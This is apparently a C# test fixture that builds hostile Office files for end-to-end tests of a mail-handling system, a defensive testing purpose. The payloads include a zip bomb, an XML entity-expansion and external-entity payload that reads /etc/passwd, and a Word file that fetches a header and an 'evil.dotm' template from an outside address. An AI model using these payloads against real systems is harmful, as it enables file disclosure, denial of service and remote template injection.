using System.Text;
using TechPlan.Functions.Tests.Forms.Word;
using static TechPlan.Functions.Tests.Forms.Word.Xml;

namespace TechPlan.EndToEnd.Tests.BadMail;

/// <summary>Files made to hurt whoever reads them.</summary>
internal static class HostileFiles
{
    /// <summary>Of ten megabytes, with ten gigabytes inside.</summary>
    public static byte[] Bomb() => Zips.Bomb(declared: 60_000_000);

    public static byte[] Entities() => new WordFile().Part("word/document.xml",
        """<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]><w>&b;&c;</w>""").ToBytes();

    public static byte[] Macro() => new WordFile().Part("word/vbaProject.bin", [1, 2, 3]).ToBytes();

    /// <summary>An Office file with a password is an old compound file with the encrypted one in it.</summary>
    public static byte[] Password() => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504], .. Encoding.Unicode.GetBytes("EncryptedPackage"), .. new byte[512]];

    public static byte[] ThousandsOfFields() =>
        new WordFile(P([.. Enumerable.Range(0, 5_000).Select(number => TextField($"Field{number}x", R("1")))])).ToBytes();

    /// <summary>A letter that asks Word to fetch its parts from elsewhere.</summary>
    public static byte[] FromElsewhere() => new WordFile(P(R("Please see the agenda.")) + """<w:sectPr><w:headerReference w:type="default" r:id="h1"/></w:sectPr>""")
        .RelatedTo(WordFile.Relationship("h1", "header", "http://192.0.2.1/header.xml", "TargetMode=\"External\""))
        .RelatedTo(WordFile.Relationship("t1", "attachedTemplate", "http://192.0.2.1/evil.dotm", "TargetMode=\"External\""))
        .ToBytes();
}
